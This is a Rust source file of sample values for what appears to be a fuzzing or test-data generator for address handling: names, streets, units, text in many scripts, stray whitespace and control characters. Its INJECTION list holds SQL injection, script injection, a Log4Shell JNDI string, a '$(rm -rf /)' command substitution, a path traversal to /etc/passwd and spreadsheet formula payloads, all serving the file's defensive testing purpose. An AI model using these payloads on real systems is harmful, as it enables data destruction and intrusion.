//! Small value pools the generators draw from: names, streets, cities, units, and text in
//! other scripts. Our own lists, chosen to cover the shapes that trip integrations.

pub const FIRST_NAMES: &[&str] = &[
    "Ada", "Grace", "Alan", "Maria", "Mateo", "Priya", "Wei", "Yuki", "Olga", "Fatima", "Noa",
    "Ngozi", "Aroha", "Liam", "Sofia", "Kwame", "Ines", "Tomasz", "Hana", "Diego",
];

pub const LAST_NAMES: &[&str] = &[
    "Lovelace",
    "Hopper",
    "Turing",
    "Garcia",
    "Okafor",
    "Nguyen",
    "Tanaka",
    "Silva",
    "Rossi",
    "Jensen",
    "O'Brien",
    "van der Berg",
    "Smith-Jones",
    "Kowalski",
    "Haddad",
    "Patel",
    "MacLeod",
    "Dubois",
    "Andersson",
    "Kim",
];

pub const STREET_NAMES: &[&str] = &[
    "Main", "High", "Church", "Station", "Park", "Victoria", "Elm", "Oak", "Maple", "King",
    "Queen", "Market", "Mill", "Harbour", "Garden", "Bridge", "Castle", "Orchard", "Meadow",
    "Lake",
];

pub const STREET_KINDS: &[&str] = &[
    "St", "Street", "Rd", "Road", "Ave", "Avenue", "Lane", "Way", "Blvd", "Drive", "Close", "Place",
];

pub const CITIES: &[&str] = &[
    "Springfield",
    "Riverside",
    "Fairview",
    "Kingston",
    "Newport",
    "Ashford",
    "Bridgeton",
    "Clearwater",
    "Greenville",
    "Milton",
    "Oakridge",
    "Westfield",
];

pub const COMPANIES: &[&str] = &["", "", "", "Acme Ltd", "Blue Harbor LLC", "Nordlicht GmbH"];

/// Unit lines as customers write them.
pub const UNITS: &[&str] = &[
    "Apt 4B",
    "APT 12",
    "Apt. 5-C",
    "Ste 200",
    "Suite 1200",
    "Unit 7",
    "UNIT 3/2",
    "Flat 3",
    "# 12",
    "#12",
    "302号室",
    "Bldg 3 Fl 2",
    "Room 1405",
    "Piso 3 Dpto B",
];

pub const HOUSE_NUMBERS: &[&str] = &[
    "1A {street}",
    "12-14 {street}",
    "99-40 63rd Rd",
    "1-2-3 Chuo",
    "12 bis Rue de la Paix",
    "Calle 5 #10-20",
    "221B {street}",
    "1/23 {street}",
    "N° 7 {street}",
    "Km 4.5 Carretera Federal",
    "4-1 {street}",
];

/// Text with precomposed accents: shown as NFD (combining marks) by the mutation.
pub const ACCENTED_NAMES: &[&str] = &[
    "José Müller",
    "Zoë Brontë",
    "François Lefèvre",
    "Łukasz Żółć",
    "Renée Søndergård",
    "Nguyễn Thị Minh",
    "Ana María Peña",
    "Jürgen Groß",
];
pub const ACCENTED_STREETS: &[&str] = &[
    "12 Rue de l'Église",
    "5 Calle de Cádiz",
    "8 Åbyvägen",
    "3 Königstraße",
    "17 Avenida São João",
    "9 Piazza Università",
];
pub const ACCENTED_CITIES: &[&str] = &["Zürich", "Besançon", "Malmö", "São Paulo", "Köln", "Łódź"];

/// A script's names, streets (with a number) and cities.
pub struct Script {
    pub countries: &'static [&'static str],
    pub names: &'static [&'static str],
    pub streets: &'static [&'static str],
    pub cities: &'static [&'static str],
    pub rtl: bool,
}

pub const SCRIPTS: &[Script] = &[
    Script {
        countries: &["JP"],
        names: &["山田 太郎", "佐藤 花子", "鈴木 一郎"],
        streets: &["神南1丁目2-3", "西新宿2-8-1", "丸の内1-9-1"],
        cities: &["渋谷区", "新宿区", "千代田区"],
        rtl: false,
    },
    Script {
        countries: &["CN", "TW", "HK"],
        names: &["王伟", "李娜", "张敏"],
        streets: &["中关村大街27号", "南京东路100号", "人民路8号"],
        cities: &["北京市", "上海市", "广州市"],
        rtl: false,
    },
    Script {
        countries: &["KR"],
        names: &["김민준", "이서연"],
        streets: &["세종대로 110", "테헤란로 152"],
        cities: &["서울", "부산"],
        rtl: false,
    },
    Script {
        countries: &["RU", "UA"],
        names: &["Иван Петров", "Анна Смирнова", "Ольга Коваленко"],
        streets: &["ул. Тверская, д. 7", "Невский пр., 28", "вул. Хрещатик, 22"],
        cities: &["Москва", "Санкт-Петербург", "Київ"],
        rtl: false,
    },
    Script {
        countries: &["SA", "AE", "EG"],
        names: &["محمد العلي", "فاطمة الزهراء", "أحمد حسن"],
        streets: &["١٢ شارع الملك فهد", "شارع التحرير 15", "٧ شارع الشيخ زايد"],
        cities: &["الرياض", "دبي", "القاهرة"],
        rtl: true,
    },
    Script {
        countries: &["IL"],
        names: &["דוד כהן", "שרה לוי"],
        streets: &["רחוב הרצל 12", "דרך מנחם בגין 132"],
        cities: &["תל אביב", "ירושלים"],
        rtl: true,
    },
    Script {
        countries: &["GR"],
        names: &["Γιώργος Παπαδόπουλος", "Μαρία Νικολάου"],
        streets: &["Ερμού 12", "Σταδίου 5"],
        cities: &["Αθήνα", "Θεσσαλονίκη"],
        rtl: false,
    },
    Script {
        countries: &["TH"],
        names: &["สมชาย ใจดี", "สมหญิง รักไทย"],
        streets: &["99 ถนนสุขุมวิท", "1 ถนนสีลม"],
        cities: &["กรุงเทพมหานคร", "เชียงใหม่"],
        rtl: false,
    },
    Script {
        countries: &["IN"],
        names: &["प्रिया शर्मा", "राहुल वर्मा"],
        streets: &["12 महात्मा गांधी मार्ग", "7 नेहरू रोड"],
        cities: &["नई दिल्ली", "मुंबई"],
        rtl: false,
    },
];

/// Unit lines in right-to-left scripts.
pub const RTL_UNITS: &[&str] = &["شقة 4", "الطابق 3", "דירה 5", "קומה 2"];

pub const EMOJI: &[&str] = &["🌸", "☕", "🏠", "🎁", "👨‍👩‍👧", "🇯🇵", "✨"];

/// Whitespace customers and forms put where it does not belong.
pub const WHITESPACE: &[&str] = &["  ", "\t", "\n", "\r\n", "\u{00A0}", "\u{3000}", "   \t "];

/// Control characters and invisible formatting.
pub const CONTROL: &[&str] = &[
    "\u{0}", "\u{7}", "\u{8}", "\u{1b}", "\u{7f}", "\u{9b}", "\u{200b}", "\u{202e}", "\u{feff}",
    "\u{200e}",
];

/// Text that is code, not an address.
pub const INJECTION: &[&str] = &[
    "'; DROP TABLE orders;--",
    "<script>alert(1)</script>",
    "{{7*7}}",
    "${jndi:ldap://x/a}",
    "$(rm -rf /)",
    "../../etc/passwd",
    "=HYPERLINK(\"http://x\")",
    "\" OR 1=1 --",
    "@SUM(1+1)",
    "<img src=x onerror=alert(1)>",
];

pub const LONG_WORDS: &[&str] = &[
    "Building",
    "Industrial",
    "Estate",
    "Business",
    "Park",
    "Northern",
    "Extension",
    "Block",
    "Wing",
    "Floor",
    "Reception",
    "Loading",
    "Dock",
];
